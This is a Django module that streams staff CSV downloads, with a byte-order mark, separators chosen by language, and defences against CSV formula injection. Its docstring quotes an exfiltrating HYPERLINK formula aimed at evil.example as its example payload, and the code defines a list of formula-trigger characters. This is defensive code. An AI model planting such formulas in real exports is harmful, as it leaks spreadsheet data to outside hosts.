"""CSV downloads for staff: streamed, and safe to open in a spreadsheet.

Every export goes through `csv_response`, so none can forget the formula rule: a cell
whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula
(or becomes one) in Excel, LibreOffice and Google Sheets — a client named
``=HYPERLINK("http://evil.example/?d="&A1,"Click")`` would run when staff open the file.
Such a cell is prefixed with a single quote (OWASP's rule for CSV injection), which the
spreadsheet shows as text and does not display.

Files are for people who double-click them: a UTF-8 byte-order mark first (without it Excel
reads UTF-8 as Windows-1252 and "Élodie" turns into "Ã‰lodie"), headers and values in the
language of the page that asked (the generator keeps that language while it streams), and the
list separator Excel expects in that language (";" in French, where "," is the decimal mark).
"""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterable, Iterator, Sequence
from datetime import datetime
from typing import Any

from django.http import StreamingHttpResponse
from django.utils import timezone, translation

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"
DELIMITERS = {"fr": ";"}


def spreadsheet_safe(value: Any) -> Any:
    """``value`` as a cell no spreadsheet evaluates; numbers and empty cells are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class _Echo:
    def write(self, value: str) -> str:
        return value


def text_of(cell: Any) -> Any:
    """Numbers stay numbers; None is an empty cell; anything else (lazy translations too) its text."""
    if cell is None:
        return ""
    return cell if isinstance(cell, int | float) else str(cell)


def delimiter_for(language: str | None) -> str:
    return DELIMITERS.get((language or "").split("-")[0], ",")


def csv_lines(header: Sequence[Any], rows: Iterable[Sequence[Any]], *, language: str | None = None) -> Iterator[str]:
    """BOM, header, rows; lazy translations (headers, choice labels) are rendered in ``language``."""
    language = language or translation.get_language()
    writer = csv.writer(_Echo(), delimiter=delimiter_for(language))
    with translation.override(language):
        yield BOM + writer.writerow([spreadsheet_safe(str(cell)) for cell in header])
        for row in rows:
            yield writer.writerow([spreadsheet_safe(text_of(cell)) for cell in row])


def csv_response(filename: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> StreamingHttpResponse:
    """A streamed CSV download; ``rows`` is consumed lazily, so a million rows never sit in memory."""
    response = StreamingHttpResponse(
        csv_lines(header, rows, language=translation.get_language()), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def spreadsheet_datetime(value: datetime | None) -> str:
    """Local time as every spreadsheet reads a date and time, whatever its language (the zone is the deployment's)."""
    return timezone.localtime(value).strftime("%Y-%m-%d %H:%M") if value else ""


Column = tuple[Any, Callable[[Any], Any]]


def csv_table(filename: str, columns: Sequence[Column], objects: Iterable[Any]) -> StreamingHttpResponse:
    """``objects`` as a CSV download, one column per (translated header, value of one object)."""
    return csv_response(
        filename, [label for label, _value in columns], ([value(obj) for _label, value in columns] for obj in objects)
    )
